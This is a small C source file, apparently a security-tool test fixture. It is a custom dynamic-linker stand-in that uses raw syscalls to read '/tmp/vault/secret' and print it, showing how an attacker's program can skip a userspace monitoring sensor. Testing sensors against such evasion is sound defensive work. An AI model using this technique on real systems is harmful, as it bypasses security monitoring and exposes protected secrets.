/* SPDX-License-Identifier: Apache-2.0 */
/* What a program of the attacker's names as its dynamic linker: the kernel starts it, and it loads no sensor. */
#define SECRET "/tmp/vault/secret"

static long call(long number, long a, long b, long c)
{
	long result;

	__asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return result;
}

__attribute__((used)) static void begin(void)
{
	char data[256];
	long n = call(0, call(2, (long)SECRET, 0, 0), (long)data, sizeof(data));

	(void)call(1, 1, (long)data, n > 0 ? n : 0);
	(void)call(60, 0, 0, 0);
}

void _start(void);
__asm__(".globl _start\n_start:\n	and $-16, %rsp\n	call begin\n");
